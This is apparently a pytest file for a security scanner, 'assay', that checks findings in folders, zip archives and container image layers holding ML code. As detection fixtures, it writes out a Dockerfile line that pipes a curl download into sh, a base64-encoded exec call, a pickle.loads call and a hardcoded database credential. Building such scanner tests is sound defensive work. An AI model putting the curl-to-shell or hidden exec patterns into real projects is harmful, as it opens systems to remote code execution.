"""Text beside a model, as `assay scan` tells of it: from files, folders, archives and image layers, with lines, and never as a verdict."""

import io
import json
import os
import pathlib
import subprocess
import tarfile
import zipfile

ROOT = pathlib.Path(__file__).resolve().parents[2]
ASSAY = os.environ.get("ASSAY_BIN", str(ROOT / "build/debug/src/assay"))

TRAIN = b"""import joblib
from sklearn.ensemble import RandomForestClassifier

if __name__ == "__main__":
    model = joblib.load("model.joblib")
"""
HIDDEN = b"import base64\nexec(base64.b64decode('cGFzcw=='))\n"
DOCKERFILE = b"FROM python:3.9-slim-buster\nRUN curl -s https://example.org/x | sh\n"


def targets(*paths, cwd):
    done = subprocess.run([ASSAY, "scan", "--json", *map(str, paths)], cwd=cwd, capture_output=True, check=False, timeout=120)
    assert done.returncode == 0, done.stderr
    return {target["path"]: target for target in json.loads(done.stdout)["targets"]}


def told(target):
    return sorted((f["code"], f["where"].get("member", ""), f["where"].get("line")) for f in target["findings"])


def layer(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return out.getvalue()


def test_files_of_a_folder_have_codes_and_lines_and_no_verdict(tmp_path):
    (tmp_path / "train.py").write_bytes(TRAIN)
    (tmp_path / "hidden.py").write_bytes(HIDDEN)
    (tmp_path / "Dockerfile").write_bytes(DOCKERFILE)
    (tmp_path / "notes.txt").write_bytes(HIDDEN)
    found = targets(".", cwd=tmp_path)
    assert {target["verdict"] for target in found.values()} == {"not_a_model"}
    by_name = {pathlib.Path(path).name: target for path, target in found.items()}
    assert told(by_name["train.py"]) == [("SRC-PY-001", "", 5)]
    assert by_name["train.py"]["findings"][0]["severity"] == "medium"
    assert told(by_name["hidden.py"]) == [("SRC-PY-004", "", 2)]
    assert told(by_name["Dockerfile"]) == [("SRC-DKR-001", "", 1), ("SRC-DKR-002", "", 1), ("SRC-DKR-005", "", 2)]
    assert told(by_name["notes.txt"]) == []


def test_members_of_archives_are_named(tmp_path):
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as archive:
        archive.writestr("code/hidden.py", HIDDEN)
        archive.writestr("lib/python3.12/site-packages/x/hidden.py", HIDDEN)
    assert told(targets("a.zip", cwd=tmp_path)["a.zip"]) == [("SRC-PY-004", "code/hidden.py", 2)]


def test_layers_of_images_are_looked_at_but_for_installed_packages(tmp_path):
    files = {"app/hidden.py": HIDDEN, "usr/local/lib/python3.12/site-packages/x/hidden.py": HIDDEN, "usr/lib/python3/dist-packages/y.py": HIDDEN}
    blob = layer(files)
    with tarfile.open(tmp_path / "image.tar", "w") as tar:
        for name, content in {"l/layer.tar": blob, "manifest.json": json.dumps([{"Config": "c.json", "RepoTags": ["x:1"], "Layers": ["l/layer.tar"]}]).encode()}.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    found = told(targets("image.tar", cwd=tmp_path)["image.tar"])
    assert [(code, line) for code, _, line in found] == [("SRC-PY-004", 2)]
    assert found[0][1].endswith("app/hidden.py")


def test_packages_are_known_by_their_records_wherever_they_lie(tmp_path):
    secret = b'url = "postgres://joe:s3cr3tP4ssw0rd@db.internal.corp/x"\n'
    (tmp_path / "layer.tar.gz").write_bytes(layer({
        "app/lib/joblib/core.py": b"import pickle\npickle.loads(x)\n" + secret,
        "app/lib/joblib-1.0.1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: joblib\nVersion: 1.0.1\n",
        "app/main.py": secret,
    }))
    found = targets("layer.tar.gz", cwd=tmp_path)["layer.tar.gz"]
    assert [f["where"]["member"] for f in found["findings"] if f["code"].startswith("SRC-")] == ["app/main.py"]
    assert [c["name"] for c in found["components"]] == ["joblib"]
